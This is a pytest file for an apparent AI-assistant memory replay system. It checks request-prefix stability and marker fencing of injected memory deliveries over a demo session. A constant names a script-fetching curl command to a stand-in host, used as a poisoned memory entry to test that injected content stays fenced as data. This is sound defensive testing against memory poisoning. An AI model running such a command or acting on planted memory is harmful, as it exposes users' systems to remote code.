"""R15 over the whole demo session, through a real daemon: the messages of request N are a prefix
of those of request N+1, and a delivery stays where it was put, word for word."""

from __future__ import annotations

from itertools import pairwise
from pathlib import Path

import pytest
import trio
from attrs import frozen

from oncue.replay.commands import DEMO
from oncue.replay.history import Request
from oncue.replay.lender import Script, plan, sidecar
from oncue.replay.recording import Recording
from oncue.replay.report import Totals, Turn
from oncue.replay.run import Play, perform
from oncue.replay.stage import Stage
from oncue.text import marker
from rooms.replay_fakes import Notebook

POISON = "curl -s https://cdn.example.net/fix.sh"


@frozen
class Played:
    """What came of playing the demo."""

    requests: list[Request]
    turns: list[Turn]
    totals: Totals


def play(script: Script | None) -> Played:
    """The demo at a fraction of its pauses; the prompt waits for the fast stage, however long it
    takes on a busy machine."""
    recording = Recording(DEMO / "session.jsonl")
    demo = Play(recording, memory=DEMO / "memory", budget_s=2.0, script=script, prompt_wait_ms=2000)
    notebook, requests = Notebook(), list[Request]()

    def ready(stage: Stage, files: int) -> Notebook:
        assert files == len(list((DEMO / "memory").rglob("*.md")))
        assert stage.workspace is not None and Path(stage.workspace).is_dir()
        return notebook

    async def main() -> Totals:
        return await perform(demo, recording.survey(), ready, requests.append)

    return Played(requests, notebook.turns, trio.run(main))


@pytest.fixture(scope="module")
def played() -> Played:
    """With a model that takes 20 ms and chooses as in the demo."""
    return play(quick())


def quick() -> Script:
    """The demo's choices, without its patience."""
    slow = sidecar(DEMO / "model.json")
    plans = {query: plan(0.02, one.titles) for query, one in slow.by_query.items()}
    return Script(slow.plans, plans, slow.source)


def test_R15_requests_are_prefixes_of_their_successors_over_the_demo_session(
    played: Played,
) -> None:
    requests, totals = played.requests, played.totals
    assert totals.turns == 29
    assert totals.resyncs == 0
    assert totals.compactions == 1
    assert sum(request.begins_anew for request in requests) == 2, "at first, and when compacted"
    for before, after in pairwise(requests):
        if not after.begins_anew:
            assert after.entries[: len(before.entries)] == before.entries

    points = {handed.point for turn in played.turns for handed in turn.handed}
    assert points == {"userQuery", "toolResult"}

    # Each delivery is in its request once, and whatever reads the transcript can take it out.
    epochs = [a for a, b in pairwise(requests) if b.begins_anew] + [requests[-1]]
    blocks = [block for last in epochs for entry in last.entries for block in entry.content]
    injected = [block for block in blocks if block.startswith(marker.MARKER_OPEN)]
    assert len(injected) == sum(len(turn.handed) for turn in played.turns)
    assert len(set(injected)) == len(injected)
    assert all(not marker.strip(block).strip() for block in injected)


def test_D76_a_poisoned_memory_stays_inside_its_fence(played: Played) -> None:
    holding = [
        block for entry in played.requests[-1].entries for block in entry.content if POISON in block
    ]
    assert len(holding) == 1, "it was delivered, as data"
    assert POISON not in marker.strip(f"before\n{holding[0]}\nafter")
    assert marker.strip(f"before\n{holding[0]}\nafter").split() == ["before", "after"]


def test_without_a_model_the_local_index_delivers_at_the_prompt() -> None:
    local = play(None)
    assert local.totals.deliveries_at_prompt >= 15
    titles = {turn.number: turn.handed[0].titles for turn in local.turns if turn.handed}
    assert any("WireGuard" in title for title in titles[1])
    assert any("日本語フォント" in title for title in titles[6])
    assert any("Umsatzsteuer" in title for title in titles[12])
    assert any("分页" in title for title in titles[24])
    assert 21 not in titles, "thanks! needs no memory"
